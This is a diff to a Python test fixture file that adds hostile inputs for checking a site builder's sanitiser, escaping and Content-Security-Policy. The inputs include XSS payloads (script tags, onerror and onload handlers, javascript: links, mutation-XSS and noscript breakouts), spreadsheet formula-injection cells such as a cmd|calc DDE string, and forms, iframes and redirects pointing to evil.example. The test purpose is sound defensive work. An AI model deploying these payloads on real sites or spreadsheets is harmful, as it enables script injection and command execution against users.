@@ -228,3 +228,53 @@ DATASETS = [
     Refused("dataset-id-index", {"data/datasets/index.yaml": dataset_text("index")},
             "data/datasets/index.yaml", 1, "'index' is reserved"),
 ]
+
+
+# --- Hostile but valid: built, then opened in chromium (test_hostile.py) ------------------------------------------
+# Each payload sets window.__pwned or opens a dialog if it ever runs.
+HARMLESS_TITLE = "&lt;/title&gt;&lt;script&gt;window.__pwned=1&lt;/script&gt; \"quoted\" & 'single'"
+HARMLESS_FRONT = (VALID_FRONT_MATTER
+                  .replace("title: Joint procurement of software", "title: '" + HARMLESS_TITLE.replace("'", "''") + "'")
+                  .replace("summary: Councils in Nottinghamshire bought software together and saved money on licences.",
+                           "summary: 'Councils wrote &lt;img src=x onerror=window.__pwned=2&gt; and {{ 7 * 7 }} here.'")
+                  .replace("  section: Item 6", "  section: 'Item \"6\" & ''seven'' &lt;svg onload=alert(3)&gt;'")
+                  + "outcomes: ['&lt;svg onload=window.__pwned=4&gt; outcome']\n")
+HARMLESS_BODY = (
+    "## &lt;img src=x onerror=window.__pwned=5&gt; heading\n\n"
+    "Code: `<iframe src=\"javascript:window.__pwned=6\">` and `<script>window.__pwned=7</script>`.\n\n"
+    "The text javascript:window.__pwned=8 is no link; `{#x onclick=\"alert(9)\"}` is code. Find hostilezebra.\n")
+HARMLESS_THEMES = ("- id: procurement\n  name: Procurement &lt;b onmouseover=alert(10)&gt;\n"
+                   "  description: 'Buying together \"with quotes\" &amp; &lt;script&gt;alert(11)&lt;/script&gt;'\n"
+                   "- id: shared-services\n  name: Shared services\n  description: Sharing services.\n")
+FORMULA_CELLS = ["=cmd|' /C calc'!A0", " =1+1", "＝1+1", "|calc", "@SUM(A1:A2)", "+44 115", "-1+2",
+                 "Neighbourhood Renewal\r=cmd|' /C calc'!A0", "\t=1", "％=1", "－2+3"]
+
+
+def harmless_dataset() -> str:
+    import json
+    rows = "".join(f"  - {{council: {json.dumps(cell, ensure_ascii=False)}, amount: {index - 3}}}\n"
+                   for index, cell in enumerate(FORMULA_CELLS))
+    total = sum(index - 3 for index in range(len(FORMULA_CELLS)))
+    return dataset_text("hostile-formulas", rows, f"stated_totals: {{amount: {total}}}\n",
+                        title="'=HYPERLINK(\"https://evil.example/\") \"quoted\" title'")
+
+
+# The payloads the earlier source patterns let past (issue 16), and more: built with the source checks switched
+# off, to show the sanitiser, the escaping and the Content-Security-Policy stop each one on their own.
+UNCHECKED_BODIES = {
+    "attr-list-handler": 'Para.\n{#x onclick="window.__pwned=1" tabindex=0}\n',
+    "reference-in-quote": "[click me][r]\n\n> [r]: javascript:window.__pwned=2\n",
+    "img-onerror": '<img src="x.png" onerror="window.__pwned=3">\n',
+    "script": "<script>window.__pwned=4</script>\n",
+    "svg-onload": '<svg onload="window.__pwned=5"><rect width="1" height="1"/></svg>\n',
+    "remote-image": "![pixel](https://tracker.example/pixel.gif)\n",
+    "entity-javascript-link": '<a href="java&#x09;script:window.__pwned=6">x</a>\n',
+    "style-attribute": '<p style="position:fixed;inset:0;background:red">covered</p>\n',
+    "form-elsewhere": '<form action="https://evil.example/"><input name="p"><button>Send</button></form>\n',
+    "iframe": '<iframe src="https://evil.example/"></iframe>\n',
+    "base-and-refresh": '<base href="https://evil.example/">\n<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
+    "object-embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">\n',
+    "mutation-xss": "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=7></style></mglyph></table>\n",
+    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=window.__pwned=8>">x</p></noscript>\n',
+}
+UNCHECKED_TITLE = "</title><script>window.__pwned=9</script><b onmouseover=alert(1)>bold</b>"
